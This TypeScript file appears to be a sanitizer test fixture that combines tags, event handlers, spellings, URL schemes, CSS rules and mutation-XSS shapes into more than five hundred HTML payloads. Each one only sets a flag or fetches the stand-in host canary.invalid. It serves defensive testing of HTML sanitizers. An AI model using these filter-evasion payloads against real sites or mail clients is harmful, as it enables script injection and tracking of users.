// Attempts to run a script, to break out of text, or to fetch something. Built from parts, so that every tag meets
// every handler and every way of writing. Sources: failures.md 73–75 (Roundcube, sanitize-html, DOMPurify, CSS and
// SVG trackers), the OWASP filter evasion list, and the mXSS shapes of both sanitizers' advisories.

const run = "top.ran=1;parent.ran=1;window.ran=1;fetch('//canary.invalid/x')";
const url = 'https://canary.invalid/x';

const selfFiring: readonly string[] = [
  ['img', 'src=x onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe', 'onload'],
  ['video', 'src=x onerror'],
  ['audio', 'src=x onerror'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onerror'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['input', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'],
  ['a', 'autofocus tabindex=1 onfocus'],
  ['details', 'open ontoggle'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['script', 'src=x onerror'],
  ['p', 'style=animation-name:spin onanimationstart'],
  ['div', 'onpointerenter'],
].map(([tag, handler]) => `${tag} ${handler}`);

/** Ways to write one opening tag with its handler. */
const spellings: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}="${run}">`,
  (tag, handler) => `<${tag} ${handler}='${run}'>`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}="${run}">`,
  (tag, handler) => `<${tag}/${handler.replaceAll(' ', '/')}="${run}">`,
  (tag, handler) => `<${tag}\t${handler}\n="${run}">`,
  (tag, handler) => `"><${tag} ${handler}="${run}">`,
  (tag, handler) => `'><${tag} ${handler}="${run}">`,
  (tag, handler) => `</textarea><${tag} ${handler}="${run}">`,
  (tag, handler) => `</title></pre><${tag} ${handler}="${run}">`,
  (tag, handler) => `&lt;${tag} ${handler}=&quot;${run}&quot;&gt;`,
  (tag, handler) => `&#60;${tag} ${handler}=&#34;${run}&#34;&#62;`,
  (tag, handler) => `<!--><${tag} ${handler}="${run}">-->`,
  (tag, handler) => `<<${tag} ${handler}="${run}">>`,
  (tag, handler) => `\u202e<${tag} ${handler}="${run}">\u202c`,
  (tag, handler) => `＜${tag} ${handler}="${run}"＞`,
  (tag, handler) => `<${tag} ${handler}=\`${run}\`>`,
  (tag, handler) => `]]><${tag} ${handler}=${run}//`,
  (tag, handler) => `<${tag} x=">" ${handler}="${run}"`,
];

const handlers = selfFiring.flatMap((one) => {
  const at = one.indexOf(' ');
  return spellings.map((spell) => spell(one.slice(0, at), one.slice(at + 1)));
});

const links = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  '&#106;avascript',
  ' javascript',
  'vbscript',
];
const linking = links.flatMap((scheme) =>
  [
    `<a href="${scheme}:${run}">x</a>`,
    `<iframe src="${scheme}:${run}"></iframe>`,
    `<form action="${scheme}:${run}"><button>x</button></form>`,
    `<svg><a xlink:href="${scheme}:${run}"><text>x</text></a></svg>`,
    `<math><mi xlink:href="${scheme}:${run}">x</mi></math>`,
    `<object data="${scheme}:${run}"></object>`,
    `<button formaction="${scheme}:${run}">x</button>`,
    `<base href="${scheme}:/">`,
  ].flat(),
);

const fetching = [
  'img src',
  'img srcset',
  'image href',
  'iframe src',
  'embed src',
  'object data',
  'video src',
  'video poster',
  'audio src',
  'source srcset',
  'track src',
  'input type=image src',
  'link rel=stylesheet href',
  'link rel=prefetch href',
  'link rel=preconnect href',
  'link rel=dns-prefetch href',
  'link rel=icon href',
  'script src',
  'base href',
  'body background',
  'table background',
  'td background',
  'form action',
  'a ping',
  'frame src',
  'svg><image xlink:href',
  'svg><use href',
  'svg><feImage href',
  'meta http-equiv=refresh content=0;url',
  'bgsound src',
].flatMap((one) => [
  `<${one}="${url}">`,
  `<${one}=${url.slice(6)}>`,
  `<${one}="//canary.invalid/?${one.length}">`,
]);

const styles = [
  `background:url(${url})`,
  `background-image:image-set('${url}' 1x)`,
  `list-style:url(${url})`,
  `cursor:url(${url}),auto`,
  `content:url(${url})`,
  `border-image:url(${url}) 1`,
  `mask:url(${url})`,
  `filter:url(${url}#f)`,
  `width:expression(${run})`,
  `behavior:url(${url})`,
].flatMap((rule) => [
  `<div style="${rule}">x</div>`,
  `<style>*{${rule}}</style>`,
  `<style>@import '${url}';*{${rule}}</style>`,
]);

const mutating = [
  `<xmp></xmp><img src=x onerror="${run}"></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  `<svg><style><img src="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<svg><desc><b title="</desc><img src=x onerror=${run}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${run}">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<script>${run}</script>`,
  `<script type=module>${run}</script>`,
  `</script><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml-stylesheet href="${url}"?>`,
  `data:text/html,<script>${run}</script>`,
];

/** More than five hundred, each once. */
export const payloads: readonly string[] = [
  ...new Set([...handlers, ...linking, ...fetching, ...styles, ...mutating]),
];
